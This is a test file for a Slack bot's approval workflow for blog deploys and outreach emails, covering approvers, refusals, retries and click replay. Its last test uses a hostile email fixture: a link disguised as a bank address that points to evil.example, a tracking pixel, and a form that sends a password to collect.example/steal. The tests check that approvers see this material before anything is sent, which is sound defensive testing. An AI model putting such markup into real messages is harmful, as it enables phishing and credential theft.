/**
 * Approvals: deploys and emails wait for an approver's click on a card, run exactly once through the
 * queue, and leave an audit trail; all through the real bot, the Slack stand-in and the sandbox gateway.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FakeMessage } from '../../src/local/fake-slack/index.js';
import { ADMIN, bind, CHANNEL, type Harness, MEMBER, startHarness, textOf } from '../helpers/bot-harness.js';

const GROUP = 'SAPPROVERS';
const GROUPIE = 'UGROUPIE';
const OTHER = 'UOTHER';

/** The newest approval card (top level or in a thread) whose text matches. */
function findCard(h: Harness, match: (m: FakeMessage) => boolean): FakeMessage | undefined {
  const all: FakeMessage[] = [];
  for (const m of h.slack.messages(CHANNEL)) {
    all.push(m);
    all.push(...h.slack.thread(CHANNEL, m.ts));
  }
  return all.filter((m) => /^Approval/.test(m.text) && match(m)).at(-1);
}

async function newCard(h: Harness, before: Set<string>, what = 'an approval card'): Promise<FakeMessage> {
  return h.slack.waitFor(() => findCard(h, (m) => !before.has(m.ts)), { what });
}

const cardTsSet = (h: Harness) => {
  const set = new Set<string>();
  for (const m of h.slack.messages(CHANNEL)) {
    set.add(m.ts);
    for (const r of h.slack.thread(CHANNEL, m.ts)) set.add(r.ts);
  }
  return set;
};

/** The card as it is now (it is updated in place). */
const current = (h: Harness, card: FakeMessage) => findCard(h, (m) => m.ts === card.ts) ?? card;

async function cardSays(h: Harness, card: FakeMessage, pattern: RegExp): Promise<FakeMessage> {
  return h.slack.waitFor(
    () => {
      const now = current(h, card);
      return pattern.test(textOf(now)) ? now : undefined;
    },
    { what: `the card to say ${pattern}`, timeoutMs: 10_000 },
  );
}

async function ephemeralTo(h: Harness, user: string, before: number, pattern: RegExp): Promise<FakeMessage> {
  return h.slack.waitFor(
    () =>
      h.slack
        .ephemerals(CHANNEL, user)
        .slice(before)
        .find((m) => pattern.test(textOf(m))),
    { what: `an ephemeral to ${user} matching ${pattern}` },
  );
}

async function click(h: Harness, card: FakeMessage, actionId: string, user: string) {
  await h.driver.click(current(h, card), { actionId }, { user });
}

const quiet = (ms = 300) => new Promise((r) => setTimeout(r, ms));

/**
 * The approved run's status message and what follows it in the card's thread (the card's own, or the one the
 * card is in), once the status matches and something follows it.
 */
const RUN_STATUS = /^(Blog deploy|Prospect email)\b.* — /;
async function runInThread(h: Harness, card: FakeMessage, match: RegExp) {
  const threadTs = card.thread_ts ?? card.ts;
  return h.slack.waitFor(
    () => {
      const replies = h.slack.thread(CHANNEL, threadTs);
      const at = replies.findLastIndex((m) => RUN_STATUS.test(m.text));
      const status = replies[at];
      if (!status || !match.test(status.text) || at === replies.length - 1) return undefined;
      return { status, after: replies.slice(at + 1) };
    },
    { what: `the run's status in the card's thread to say ${match}`, timeoutMs: 10_000 },
  );
}

async function askDeploy(h: Harness, postId: string, user = MEMBER): Promise<FakeMessage> {
  const before = cardTsSet(h);
  await h.gateway(`deploy ${postId}`, { user });
  return newCard(h, before, `the card of deploy ${postId}`);
}

describe('approvals', () => {
  let h: Harness;
  /** A sample post of the bound client, by index. */
  const post = (i: number) => String(h.sandbox.records('harbor-law', 'blogs')[i]?.id);
  beforeAll(async () => {
    h = await startHarness('e2e-approvals', { GATEWAY_APPROVERS: `${ADMIN},${GROUP}` });
    h.slack.simulate.setUserGroup(GROUP, [GROUPIE]);
    await bind(h, 'harbor-law');
  });
  afterAll(async () => {
    await h?.close();
  });

  it('deploys from the command once an approver approves: card, hash, one POST, outcome on the card', async () => {
    const card = await askDeploy(h, post(1));
    const shown = textOf(card);
    expect(shown).toContain('Blog deploy');
    expect(shown).toContain('Harbor Law');
    expect(shown).toContain(post(1));
    expect(shown).toMatch(/Payload hash `[0-9a-f]{12}`/);
    // Once: on the decision line while it waits, not again in the context line.
    expect(JSON.stringify(card.blocks).match(/expires/g)).toHaveLength(1);
    expect(shown).toContain(`<@${MEMBER}>`);
    const approve = JSON.stringify(card.blocks).includes('"confirm"');
    expect(approve).toBe(true);
    await quiet();
    expect(h.posts('deploy_blog')).toHaveLength(0);

    const topLevel = h.slack.messages(CHANNEL).length;
    await click(h, card, 'approval_approve', ADMIN);
    const done = await cardSays(h, card, /Approved by <@UADMIN>.*done/);
    expect(JSON.stringify(done.blocks)).not.toContain('approval_approve');
    expect(h.posts('deploy_blog')).toHaveLength(1);
    // The run reports under its card, not as a new channel message: its status, then its result.
    const run = await runInThread(h, card, /done/);
    expect(run.status.thread_ts).toBe(card.ts);
    expect(run.after.length).toBeGreaterThan(0);
    expect(h.slack.messages(CHANNEL)).toHaveLength(topLevel);
    expect(h.posts('deploy_blog')[0]).toMatchObject({ fields: { post_id: post(1) } });
    const metrics = await (await fetch(`http://127.0.0.1:${h.runtime.port}/metrics`)).text();
    for (const state of ['pending', 'approved', 'running', 'done'])
      expect(metrics).toMatch(new RegExp(`gateway_bot_approvals_total\\{state="${state}"\\} [1-9]`));
  });

  it('asks for a deploy from a drafted post’s "Request deploy" button, in the result’s thread', async () => {
    await h.runAction(`blog "approval keyword ${Date.now()}"`);
    const { status, thread } = await h.settled(
      (m) => m.text.includes('Blog article') && m.text.includes('done'),
    );
    const result = thread.find((m) => JSON.stringify(m.blocks).includes('approval_request_deploy'));
    expect(result).toBeDefined();
    const before = cardTsSet(h);
    await h.driver.click(result as FakeMessage, { actionId: 'approval_request_deploy' }, { user: MEMBER });
    const card = await newCard(h, before);
    expect(card.thread_ts).toBe(status.ts);
    const postId = /`(blog_\d+)`/.exec(textOf(card))?.[1];
    expect(postId).toBeDefined();
    expect(textOf(card)).toContain('a complete guide');
    await click(h, card, 'approval_approve', GROUPIE);
    await cardSays(h, card, /done/);
    expect(h.posts('deploy_blog').at(-1)).toMatchObject({ fields: { post_id: postId } });
    // A card in a thread has its run beside it, in the same thread.
    const run = await runInThread(h, card, /done/);
    expect(run.status.thread_ts).toBe(status.ts);
  });

  it('sends an email from the command’s form, exactly as approved', async () => {
    const before = cardTsSet(h);
    const sent = h.posts('send_prospect_email').length;
    await h.gateway('email', { user: MEMBER });
    const modal = await h.openModal(/email/i);
    await h.driver.submit(
      modal,
      { to: 'ed@blog.example', subject: 'A guide for you', html: '<p>Hello <b>Ed</b> &amp; team</p>' },
      { user: MEMBER },
    );
    const card = await newCard(h, before);
    expect(textOf(card)).toContain('ed@blog.example');
    expect(textOf(card)).toContain('A guide for you');
    expect(textOf(card)).toContain('Hello Ed &amp; team');
    await click(h, card, 'approval_approve', ADMIN);
    await cardSays(h, card, /done/);
    expect(h.posts('send_prospect_email')).toHaveLength(sent + 1);
    expect(h.posts('send_prospect_email').at(-1)).toMatchObject({
      fields: {
        to: 'ed@blog.example',
        subject: 'A guide for you',
        html: '<p>Hello <b>Ed</b> &amp; team</p>',
      },
    });
  });

  it('sends a drafted outreach email from its "Send…" button: the form prefilled, the card in the thread', async () => {
    await h.gateway('outreach https://austin-home-blog.example/resources', { user: MEMBER });
    const { status, thread } = await h.settled(
      (m) => m.text.includes('Outreach email') && m.text.includes('done'),
    );
    const result = thread.find((m) => JSON.stringify(m.blocks).includes('approval_request_send'));
    expect(result).toBeDefined();
    const views = h.slack.views(MEMBER).length;
    await h.driver.click(result as FakeMessage, { actionId: 'approval_request_send' }, { user: MEMBER });
    await h.slack.waitFor(() => h.slack.views(MEMBER).length > views || undefined, { what: 'the form' });
    const modal = await h.openModal(/email/i);
    expect(JSON.stringify(modal.view.blocks)).toContain('A resource for your readers');
    const before = cardTsSet(h);
    await h.driver.submit(modal, { to: 'editor@austin-home-blog.example' }, { user: MEMBER });
    const card = await newCard(h, before);
    expect(card.thread_ts).toBe(status.ts);
    await click(h, card, 'approval_approve', ADMIN);
    await cardSays(h, card, /done/);
    const body = h.posts('send_prospect_email').at(-1) as { fields: Record<string, string> };
    expect(body.fields.to).toBe('editor@austin-home-blog.example');
    expect(body.fields.subject).toContain('A resource for your readers');
    expect(body.fields.html).toContain('thought our guide could help');
  });

  it('refuses self-approval and a non-approver (naming who can approve); nothing runs', async () => {
    const card = await askDeploy(h, post(2), ADMIN);
    let seen = h.slack.ephemerals(CHANNEL, ADMIN).length;
    await click(h, card, 'approval_approve', ADMIN);
    const self = await ephemeralTo(h, ADMIN, seen, /another approver must decide/);
    // Named, so they can be asked; the configuration is no business of the requester's here.
    expect(textOf(self)).toContain(`<!subteam^${GROUP}>`);
    expect(textOf(self)).not.toContain('GATEWAY_');
    seen = h.slack.ephemerals(CHANNEL, MEMBER).length;
    await click(h, card, 'approval_approve', MEMBER);
    const refusal = await ephemeralTo(h, MEMBER, seen, /Only approvers/);
    expect(textOf(refusal)).toContain('<@UADMIN>');
    expect(textOf(refusal)).toContain(`<!subteam^${GROUP}>`);
    await quiet();
    expect(h.posts('deploy_blog').filter((p) => p.fields?.post_id === post(2))).toHaveLength(0);
    expect(textOf(current(h, card))).toContain('Waiting for an approver');
  });

  it('rejects and cancels; Approve on a rejected or cancelled card runs nothing', async () => {
    const posts = h.posts('deploy_blog').length;
    const rejected = await askDeploy(h, post(3));
    const staleRejected = structuredClone(rejected);
    await click(h, rejected, 'approval_reject', GROUPIE);
    await cardSays(h, rejected, /Rejected by <@UGROUPIE>/);
    const cancelled = await askDeploy(h, post(4));
    const staleCancelled = structuredClone(cancelled);
    let seen = h.slack.ephemerals(CHANNEL, OTHER).length;
    await click(h, cancelled, 'approval_cancel', OTHER);
    await ephemeralTo(h, OTHER, seen, /who asked, can cancel/);
    await click(h, cancelled, 'approval_cancel', MEMBER);
    await cardSays(h, cancelled, /Cancelled by <@UMEMBER>/);
    // A click from a card rendered before the decision (another client, a stale view).
    seen = h.slack.ephemerals(CHANNEL, ADMIN).length;
    await h.driver.click(staleRejected, { actionId: 'approval_approve' }, { user: ADMIN });
    await ephemeralTo(h, ADMIN, seen, /already rejected by <@UGROUPIE>/);
    await h.driver.click(staleCancelled, { actionId: 'approval_approve' }, { user: ADMIN });
    await ephemeralTo(h, ADMIN, seen, /already cancelled/);
    await quiet();
    expect(h.posts('deploy_blog')).toHaveLength(posts);
  });

  it('shows a gateway failure on the card and in the thread, with Retry for approvers only', async () => {
    const card = await askDeploy(h, post(5));
    h.sandbox.failNext('status_error', { action: 'deploy_blog' });
    const posts = h.posts('deploy_blog').length;
    await click(h, card, 'approval_approve', ADMIN);
    const failed = await cardSays(h, card, /failed/);
    expect(JSON.stringify(failed.blocks)).toContain('approval_retry');
    expect(h.posts('deploy_blog')).toHaveLength(posts + 1);
    const { after } = await runInThread(h, card, /failed/);
    const failure = after.find((m) => JSON.stringify(m.blocks).includes('job_retry'));
    expect(failure).toBeDefined();
    // The requester is no approver: neither Retry runs anything for them.
    let seen = h.slack.ephemerals(CHANNEL, MEMBER).length;
    await click(h, card, 'approval_retry', MEMBER);
    await ephemeralTo(h, MEMBER, seen, /Only approvers/);
    seen = h.slack.ephemerals(CHANNEL, MEMBER).length;
    await h.driver.click(failure as FakeMessage, { actionId: 'job_retry' }, { user: MEMBER });
    await ephemeralTo(h, MEMBER, seen, /Only approvers/);
    await quiet();
    expect(h.posts('deploy_blog')).toHaveLength(posts + 1);
    // An approver's Retry runs it once more.
    await click(h, card, 'approval_retry', ADMIN);
    await cardSays(h, card, /done/);
    expect(h.posts('deploy_blog')).toHaveLength(posts + 2);
  });

  it('refuses a deploy of a post the gateway does not have, before any card, and says how to find post ids', async () => {
    const before = cardTsSet(h);
    const seen = h.slack.ephemerals(CHANNEL, MEMBER).length;
    await h.gateway('deploy blog_nope', { user: MEMBER });
    const refusal = await ephemeralTo(h, MEMBER, seen, /no blog post `blog_nope`/);
    expect(textOf(refusal)).toContain('so nothing was queued');
    expect(textOf(refusal)).toContain('/gateway blogs');
    // A deploy always names its post: the refusal never suggests leaving it out.
    expect(textOf(refusal)).not.toContain('leave post_id out');
    await quiet();
    expect(findCard(h, (m) => !before.has(m.ts))).toBeUndefined();
  });

  it('lists the channel’s approvals in /gateway history, newest first, paged', async () => {
    const seen = h.slack.ephemerals(CHANNEL, MEMBER).length;
    await h.gateway('history', { user: MEMBER });
    const page = await ephemeralTo(h, MEMBER, seen, /Approvals and guarded actions/);
    const text = textOf(page);
    // Each step as it was: asked for by a person, started and done by no one in particular, for the client by name.
    expect(text).toMatch(/\*done\* · Blog deploy for \*Harbor Law Group\*/);
    expect(text).toMatch(/\*started\* · Blog deploy/);
    expect(text).toMatch(/\*requested\* by <@UMEMBER> · Blog deploy/);
    expect(text).toMatch(/rejected\* by <@UGROUPIE>/);
    expect(text).not.toMatch(/pending\*|by worker|for `harbor-law`/);
    expect(text).toMatch(/hash `[0-9a-f]{12}`/);
    // What ran, so deploys can be told apart: the post's title and id.
    expect(text).toMatch(/\*done\* · Blog deploy for \*Harbor Law Group\* · “[^”]+” `blog_\d+` · hash/);
    expect(JSON.stringify(page.blocks)).toContain('approval_history_older');
    await h.driver.click(page, { actionId: 'approval_history_older' }, { user: MEMBER });
    await h.slack.waitFor(() => h.slack.ephemerals(CHANNEL, MEMBER).find((m) => /page 2/.test(textOf(m))), {
      what: 'page 2',
    });
  });

  it('opens a form of the newest posts for a deploy without a post id, and asks for the post chosen', async () => {
    const before = cardTsSet(h);
    const posts = h.posts('deploy_blog').length;
    await h.gateway('deploy', { user: MEMBER });
    const view = await h.openModal(/Blog deploy/);
    const input = view.view.blocks.find((b: { block_id?: string }) => b.block_id === 'post_id');
    expect(input?.element.type).toBe('static_select');
    expect(input?.optional).toBe(false);
    // Newest first, a bounded number of them, and the form says so (the gateway cannot order blogs).
    const all = [...h.sandbox.records('harbor-law', 'blogs')].sort((a, b) =>
      String(b.created_at).localeCompare(String(a.created_at)),
    );
    const offered = (input?.element.options ?? []).map((o: { value: string }) => o.value);
    expect(offered).toEqual(all.map((r) => String(r.id)));
    expect(input?.hint.text).toMatch(
      new RegExp(`^All ${all.length} posts, newest first\\. Another: /gateway deploy <post_id>\\.`),
    );
    expect(input?.hint.text).toContain('/gateway blogs');
    // Nothing is asked for until a post is chosen.
    await quiet();
    expect(findCard(h, (m) => !before.has(m.ts))).toBeUndefined();
    // Slack's client does not submit it without a choice (the stand-in refuses as it would).
    await expect(h.driver.submit(view, {}, { user: MEMBER })).rejects.toThrow(/required input post_id/);
    const chosen = String(all[0]?.id);
    await h.driver.submit(view, { post_id: chosen }, { user: MEMBER });
    const card = await newCard(h, before, 'the card of the chosen post');
    expect(textOf(card)).toContain(`\`${chosen}\``);
    await click(h, card, 'approval_approve', ADMIN);
    await cardSays(h, card, /done/);
    expect(h.posts('deploy_blog')).toHaveLength(posts + 1);
    expect(h.posts('deploy_blog').at(-1)).toMatchObject({ fields: { post_id: chosen } });
  });

  it('offers a client with many posts its 25 newest, and says how many there are', async () => {
    const channel = 'CMANYPOSTS';
    await bind(h, 'acme-plumbing', channel);
    await h.gateway('deploy', { user: MEMBER, channel });
    const view = await h.slack.waitFor(
      () =>
        h.slack
          .views(MEMBER)
          .find(
            (v) =>
              String(v.view.private_metadata).includes(channel) &&
              v.view.blocks.some((b: { type: string }) => b.type === 'input'),
          ),
      { what: 'the deploy form of acme-plumbing' },
    );
    const input = view.view.blocks.find((b: { block_id?: string }) => b.block_id === 'post_id');
    const all = [...h.sandbox.records('acme-plumbing', 'blogs')].sort((a, b) =>
      String(b.created_at).localeCompare(String(a.created_at)),
    );
    expect(all.length).toBeGreaterThan(25);
    const offered = (input?.element.options ?? []).map((o: { value: string }) => o.value);
    expect(offered).toEqual(all.slice(0, 25).map((r) => String(r.id)));
    expect(input?.hint.text).toMatch(new RegExp(`^The 25 newest of ${all.length} posts, newest first\\.`));
    // Each choice names the post, its state and date, and its id (Slack cuts an option's text at 75).
    for (const o of input?.element.options ?? []) expect(o.text.text.length).toBeLessThanOrEqual(75);
    expect(input?.element.options[0].text.text).toMatch(
      / \((draft|published) · \d{4}-\d{2}-\d{2} · blog_\d+\)$/,
    );
  });

  it('answers an identical request with the pending card’s link, not a second card; after it ran, warns on the new card', async () => {
    const cardsOf = (postId: string) =>
      [...cardTsSet(h)].filter((ts) => findCard(h, (m) => m.ts === ts && textOf(m).includes(postId)));
    const first = await askDeploy(h, post(6));
    const seen = h.slack.ephemerals(CHANNEL, OTHER).length;
    await h.gateway(`deploy ${post(6)}`, { user: OTHER });
    const pointer = await ephemeralTo(h, OTHER, seen, /already waiting for an approver/);
    expect(textOf(pointer)).toContain(`/archives/${CHANNEL}/p${first.ts.replace('.', '')}`);
    expect(textOf(pointer)).toContain(`<@${MEMBER}>`);
    await quiet();
    expect(cardsOf(post(6))).toHaveLength(1);

    // Two identical requests at once make one card.
    const asked = h.slack.ephemerals(CHANNEL, MEMBER).length;
    await Promise.all([
      h.gateway(`deploy ${post(7)}`, { user: MEMBER }),
      h.gateway(`deploy ${post(7)}`, { user: MEMBER }),
    ]);
    await ephemeralTo(h, MEMBER, asked, /already waiting for an approver/);
    await quiet();
    expect(cardsOf(post(7))).toHaveLength(1);

    // Once it ran, the same line makes a new card that says so, with when and the record.
    await click(h, first, 'approval_approve', ADMIN);
    const done = await cardSays(h, first, /done · record `([^`]+)`/);
    const recordId = /done · record `([^`]+)`/.exec(textOf(done))?.[1] as string;
    const again = await askDeploy(h, post(6));
    expect(again.ts).not.toBe(first.ts);
    expect(textOf(again)).toMatch(/This exact payload already ran\* here at \d{4}-\d\d-\d\d \d\d:\d\d UTC/);
    expect(textOf(again)).toContain(recordId);
    expect(textOf(again)).toContain('Approving runs it again');
    expect(textOf(again)).toContain('approval_approve');
  });
  it('says which words after `history` it ignored, beside the first page', async () => {
    const seen = h.slack.ephemerals(CHANNEL, MEMBER).length;
    await h.gateway('history 2 extra', { user: MEMBER });
    const told = await ephemeralTo(h, MEMBER, seen, /so I ignored/);
    expect(textOf(told)).toContain('`2` `extra`');
    await ephemeralTo(h, MEMBER, seen, /Approvals and guarded actions|No approvals/);
  });

  it('runs one Retry per signed click: the same Retry click replayed after the retried run failed starts nothing', async () => {
    h.sandbox.insertRows('harbor-law', 'blogs', [
      {
        id: 'blog_replay',
        post_title: 'Replayed clicks',
        keyword: 'replayed clicks',
        status: 'draft',
        published: false,
        created_at: '2099-01-01T00:00:00Z',
      },
    ]);
    const card = await askDeploy(h, 'blog_replay');
    h.sandbox.failNext('status_error', { action: 'deploy_blog' });
    const posts = h.posts('deploy_blog').length;
    await click(h, card, 'approval_approve', ADMIN);
    await cardSays(h, card, /Approved, failed/);
    // The approver's Retry fails too, so the card offers Retry again.
    h.sandbox.failNext('status_error', { action: 'deploy_blog' });
    await click(h, card, 'approval_retry', ADMIN);
    await h.slack.waitFor(() => (h.posts('deploy_blog').length === posts + 2 ? true : undefined), {
      what: 'the retried POST',
    });
    await cardSays(h, card, /Approved, failed/);
    // Someone who captured that click sends it again, signature and all, well within Slack's five minutes.
    const replayed = await h.driver.replayLast();
    expect(replayed.status).toBe(200);
    await quiet(800);
    expect(h.posts('deploy_blog')).toHaveLength(posts + 2);
    expect(textOf(current(h, card))).toMatch(/Approved, failed/);
    // A new click by an approver is a new decision, and runs.
    await click(h, card, 'approval_retry', ADMIN);
    await cardSays(h, card, /done/);
    expect(h.posts('deploy_blog')).toHaveLength(posts + 3);
  });
});

describe('an email approval', () => {
  let h: Harness;
  beforeAll(async () => {
    h = await startHarness('e2e-approvals-email');
    await bind(h, 'harbor-law');
  });
  afterAll(async () => {
    await h?.close();
  });

  const filler = 'We would love to feature your guide on our readers’ page. '.repeat(30);
  const HTML = [
    '<p>Hello &lt;!channel&gt; \u202Eteam\u202C,</p>',
    '<p>Please <a href="https://evil.example/login?next=1">https://bank.example/account</a> and',
    "<a href='https://harbor-law.example/guide'>our guide</a>.</p>",
    '<img src="https://track.example/open.gif?u=42" width="1" height="1" alt="">',
    '<img src=https://cdn.example/logo.png alt="Logo">',
    '<iframe src="https://frame.example/embed"></iframe>',
    '<form action="https://collect.example/steal"><input name="password"></form>',
    '<div style="background-image:url(https://css.example/bg.png)">',
    `<p>${filler}</p><p>THE-LAST-WORDS of the email.</p></div>`,
  ].join('\n');

  it('shows before Approve every link’s target beside its text, everything it loads, and the whole text', async () => {
    const from = h.slack.calls.length;
    await h.gateway('email', { user: MEMBER });
    const modal = await h.openModal(/email/i);
    const before = cardTsSet(h);
    await h.driver.submit(modal, { to: 'ed@blog.example', subject: 'A guide', html: HTML }, { user: MEMBER });
    const card = await newCard(h, before);
    const shown = textOf(card);
    // The card: the preview says it is cut; the links with their targets; what the email loads.
    expect(shown).toContain('The preview above is cut');
    expect(shown).toContain('`https://evil.example/login?next=1`');
    expect(shown).toContain('the text shows another address than the link goes to');
    expect(shown).toContain('`https://track.example/open.gif?u=42`');
    expect(shown).toContain('a tracking pixel');
    expect(shown).toMatch(/frame \(a web page inside the email\) `https:\/\/frame\.example\/embed`/);
    expect(shown).toContain('form, sends what is typed to `https://collect.example/steal`');
    expect(shown).toContain('`https://css.example/bg.png`');
    expect(shown).toContain('in this card’s thread');
    // The thread, posted with the card: the whole text, the last words included, each link's target beside it.
    const thread = await h.slack.waitFor(
      () => {
        const replies = h.slack.thread(CHANNEL, card.ts);
        return replies.some((m) => textOf(m).includes('THE-LAST-WORDS')) ? replies : undefined;
      },
      { what: 'the whole email in the card’s thread' },
    );
    const all = thread.map(textOf).join('\n');
    expect(all).toContain('https://bank.example/account [https://evil.example/login?next=1]');
    expect(all).toContain('our guide [https://harbor-law.example/guide]');
    expect(all).toContain('`https://cdn.example/logo.png`');
    expect(all).toContain('Hello &lt;!channel&gt;');
    // Nothing the email holds pings, links or reorders text: addresses are inert code, never links.
    const sent = JSON.stringify(h.slack.calls.slice(from).map((c) => c.args));
    expect(sent).not.toMatch(/<!channel>|<https?:\/\/(evil|track|frame|collect|css|cdn)\./);
    expect(sent).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
    for (const m of [card, ...thread]) {
      const blocks = (m.blocks ?? []) as Array<{ text?: { text: string } }>;
      expect(blocks.length).toBeLessThanOrEqual(50);
      for (const b of blocks) expect(b.text?.text.length ?? 0).toBeLessThanOrEqual(3000);
    }
    // Approving sends exactly the html that was shown.
    await click(h, card, 'approval_approve', ADMIN);
    await cardSays(h, card, /done/);
    expect(h.posts('send_prospect_email').at(-1)?.fields?.html).toBe(HTML);
  });
});
